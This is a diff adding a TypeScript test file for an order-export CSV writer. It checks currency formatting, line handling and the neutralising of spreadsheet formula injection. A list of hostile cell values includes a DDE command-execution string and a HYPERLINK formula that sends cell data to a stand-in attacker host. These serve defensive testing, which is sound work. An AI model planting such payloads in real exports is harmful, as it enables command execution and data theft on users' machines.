@@ -1,0 +1,193 @@
+import fc from 'fast-check';
+import { expect, test } from 'vitest';
+
+import { cleanLine } from '#domain/text.ts';
+import type { OrderToExport } from '#server/db/order-lists.ts';
+
+import { amountCell, csvHeads, csvLines, textCell } from './order-csv.ts';
+
+/** Reads CSV by RFC 4180, and by nothing that the writer knows. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let at = 0;
+  while (at < text.length) {
+    let cell = '';
+    if (text[at] === '"') {
+      at += 1;
+      for (;;) {
+        if (at >= text.length) throw new Error('A quote was never closed');
+        if (text[at] !== '"') cell += text[at++];
+        else if (text[at + 1] === '"') {
+          cell += '"';
+          at += 2;
+        } else break;
+      }
+      at += 1;
+    } else while (at < text.length && text[at] !== ',' && text[at] !== '\r') cell += text[at++];
+    row.push(cell);
+    if (text[at] === ',') at += 1;
+    else if (text.startsWith('\r\n', at)) {
+      rows.push(row);
+      row = [];
+      at += 2;
+    } else throw new Error(`Neither a comma nor a line’s end at ${at}`);
+  }
+  return rows;
+}
+
+const HEADS = parseCsv(csvHeads().slice(1))[0] ?? [];
+
+const row = (change: Partial<OrderToExport> = {}): OrderToExport => ({
+  number: 7,
+  createdAt: '2026-11-20T14:12:00.000Z',
+  state: 'paid',
+  dispute: null,
+  productName: 'Throwing Taller',
+  billing: null,
+  buyerName: 'Celeste',
+  email: 'celeste@example.com',
+  country: 'FR',
+  currency: 'USD',
+  original: 8900,
+  discount: 1780,
+  couponCode: 'EARLY20',
+  total: 7120,
+  received: 7120,
+  refunded: 120,
+  lost: 0,
+  paymentIntentId: 'pi_1',
+  subscriptionId: null,
+  sessionId: 'cs_1',
+  termsRequired: true,
+  termsAccepted: true,
+  pressedPayAt: '2026-11-20T14:11:00.000Z',
+  slug: 'taller',
+  ...change,
+});
+
+/** One order as a spreadsheet reads it, by its heads. */
+function readBack(change: Partial<OrderToExport>): Record<string, string> {
+  const [cells = [], ...rest] = parseCsv(csvLines([row(change)], 'https://till.example'));
+  expect(rest).toEqual([]);
+  expect(cells).toHaveLength(HEADS.length);
+  return Object.fromEntries(HEADS.map((head, place) => [head, cells[place] ?? '']));
+}
+
+test('a file begins with what spreadsheets tell its letters by, and its lines end as they expect', () => {
+  expect(csvHeads().startsWith('\ufeffNumber,Date (UTC),')).toBe(true);
+  expect(csvHeads().endsWith('\r\n')).toBe(true);
+  expect(csvLines([row(), row()], '').split('\r\n')).toHaveLength(3);
+});
+
+test('an order is one line with all that its books say', () => {
+  expect(readBack({})).toEqual({
+    Number: '7',
+    'Date (UTC)': '2026-11-20T14:12:00.000Z',
+    State: 'paid',
+    Dispute: '',
+    Product: 'Throwing Taller',
+    Renews: '',
+    Page: 'https://till.example/c/taller',
+    Buyer: 'Celeste',
+    Email: 'celeste@example.com',
+    Country: 'FR',
+    Currency: 'USD',
+    Subtotal: '89.00',
+    Discount: '17.80',
+    Coupon: 'EARLY20',
+    Total: '71.20',
+    Received: '71.20',
+    Refunded: '1.20',
+    'Lost to disputes': '0.00',
+    Net: '70.00',
+    Payment: 'pi_1',
+    Subscription: '',
+    'Checkout session': 'cs_1',
+    'Terms accepted': 'yes',
+    'Pressed pay at (UTC)': '2026-11-20T14:11:00.000Z',
+  });
+});
+
+test('amounts have the digits of their currency, and never lose a part of one', () => {
+  expect(amountCell(0, 'USD')).toBe('0.00');
+  expect(amountCell(5, 'USD')).toBe('0.05');
+  expect(amountCell(-1234, 'EUR')).toBe('-12.34');
+  expect(amountCell(500, 'JPY')).toBe('500');
+  expect(amountCell(12_345, 'KWD')).toBe('12.345');
+  expect(amountCell(99_999_999, 'USD')).toBe('999999.99');
+  // Two decimals at the provider, none for people.
+  expect(amountCell(500, 'ISK')).toBe('5');
+  expect(amountCell(550, 'ISK')).toBe('5.50');
+});
+
+const HOSTILE = [
+  '=1+1',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\0=1+1',
+  '  =1+1',
+  '"=1+1',
+  "'=1+1",
+  '“=1+1”',
+  '\u200b=1+1',
+  '\u00a0=1+1',
+  '\u202e=1+1',
+  '\ufeff=1+1',
+  '＝1+1',
+  '＋1',
+  '＠x',
+  "=cmd|'/C calc'!A0",
+  '=HYPERLINK("https://evil.example?x="&A1,"click")',
+];
+
+test('nobody’s name is a formula', () => {
+  for (const name of HOSTILE) {
+    const cell = readBack({ buyerName: name }).Buyer ?? '';
+    expect([name, cell.startsWith("'")]).toEqual([name, true]);
+  }
+  expect(textCell('Ann = Bob')).toBe('"Ann = Bob"');
+  expect(textCell('100% wool')).toBe('"100% wool"');
+  expect(textCell('O’Brien')).toBe('"O’Brien"');
+});
+
+test('a name stays on its line', () => {
+  expect(readBack({ buyerName: 'Ann\r\nBob\u2028Cid\u0085Dee' }).Buyer).toBe('Ann Bob Cid Dee');
+  expect(readBack({ buyerName: 'a'.repeat(10_000) }).Buyer).toHaveLength(10_000);
+});
+
+/** What no spreadsheet may take for a formula, written down for itself. */
+const startsFormula = (cell: string): boolean => '=+-@\t\r\n＝＋－＠'.includes(cell.charAt(0)) && cell !== '';
+
+const anyText = fc.oneof(
+  fc.string({ unit: 'binary', maxLength: 40 }),
+  fc.string({ unit: 'grapheme', maxLength: 40 }),
+  fc.string({
+    unit: fc.constantFrom('=', '+', '-', '@', '"', "'", ',', ';', '\t', '\r', '\n', ' ', 'a', '\u202e', '\0'),
+    maxLength: 12,
+  }),
+);
+
+test('whatever people are called, a spreadsheet reads back what is stored', () => {
+  fc.assert(
+    fc.property(anyText, anyText, anyText, (buyerName, productName, couponCode) => {
+      const read = readBack({ buyerName, productName, couponCode });
+      for (const [cell = '', stored] of [
+        [read.Buyer, buyerName],
+        [read.Product, productName],
+        [read.Coupon, couponCode],
+      ] as const) {
+        const line = cleanLine(stored);
+        expect([line, `'${line}`]).toContain(cell);
+        expect(startsFormula(cell)).toBe(false);
+        expect(/[\r\n\t\0]/.test(cell)).toBe(false);
+      }
+      expect(read.Total).toBe('71.20');
+    }),
+    { numRuns: 1000 },
+  );
+});
